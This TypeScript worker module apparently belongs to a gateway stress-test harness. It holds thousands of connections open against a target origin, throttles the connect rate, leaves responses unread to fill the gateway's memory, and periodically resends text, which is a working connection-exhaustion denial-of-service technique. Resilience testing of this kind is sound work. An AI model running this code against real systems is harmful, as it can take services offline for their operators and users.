/** Holds hostile sockets, a thread of its own. */
import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as delay } from 'node:timers/promises';
import { serveJobs } from '../process/worker.ts';
import type { Attack, HeldConnections, SocketKind } from './attack.ts';

/** The platform has priority on the processors. On Linux a priority is that of a thread. */
setPriority(10);

const CONNECTS_PER_SECOND = 1000;
const STEP_MS = 50;
const REPEAT_EVERY_MS = 2_000;
/** The longest wait until an attack counts as begun, however few sockets are open. */
const RAMP_MS = 30_000;

let held: readonly HeldSockets[] = [];

serveJobs(async (job: Attack | 'end'): Promise<HeldConnections> => {
  if (job !== 'end') await begin(job);
  const result = held.map((sockets) => [sockets.kind.name, sockets.state] as const);
  if (job === 'end') {
    const ended = held;
    held = [];
    for (const sockets of ended) sockets.close();
  }
  return Object.fromEntries(result);
});

/** Resolves when every socket was opened once, or should have been. */
async function begin(attack: Attack): Promise<void> {
  held = attack.kinds.map((kind) => new HeldSockets(kind, attack));
  setInterval(openMissing, STEP_MS);
  setInterval(() => {
    for (const sockets of held) sockets.repeat();
  }, REPEAT_EVERY_MS);
  const ramped = performance.now() + RAMP_MS;
  while (held.some(({ state, kind }) => state.opened < kind.count) && performance.now() < ramped) {
    await delay(STEP_MS);
  }
}

/** Opens missing sockets of each kind in turn, within the rate. */
function openMissing(): void {
  for (let opened = 0; opened < (CONNECTS_PER_SECOND * STEP_MS) / 1000; opened++) {
    const missing = held.filter(({ isComplete }) => !isComplete);
    missing[opened % missing.length]?.openOne();
  }
}

class HeldSockets {
  readonly kind: SocketKind;
  readonly #attack: Attack;
  readonly #open = new Set<Socket>();
  #pending = 0;
  #opened = 0;
  #refused = 0;

  constructor(kind: SocketKind, attack: Attack) {
    this.kind = kind;
    this.#attack = attack;
  }

  get isComplete(): boolean {
    return this.#open.size + this.#pending >= this.kind.count;
  }

  get state(): HeldConnections[string] {
    return { open: this.#open.size, opened: this.#opened, refused: this.#refused };
  }

  openOne(): void {
    const { origin, tokens } = this.#attack;
    const { first, leavesUnread } = this.kind;
    const token = tokens[(this.#opened + this.#pending) % tokens.length]!;
    const { hostname: host, port } = new URL(origin);
    const socket = connect({ host, port: Number(port), noDelay: true });
    this.#pending++;
    // Unread bytes beyond the kernel's buffers stay in the gateway's memory.
    if (leavesUnread) socket.pause();
    else socket.resume();
    socket.once('connect', () => {
      this.#opened++;
      this.#pending--;
      this.#open.add(socket);
      socket.write(first.replaceAll('$token', token), 'latin1');
    });
    socket.on('error', () => socket.destroy());
    socket.once('close', () => {
      if (this.#open.delete(socket)) return;
      this.#pending--;
      this.#refused++;
    });
  }

  /** Sends the repeated text on each socket. */
  repeat(): void {
    const { again } = this.kind;
    for (const socket of this.#open) if (again !== undefined) socket.write(again, 'latin1');
  }

  close(): void {
    for (const socket of this.#open) socket.destroy();
  }
}
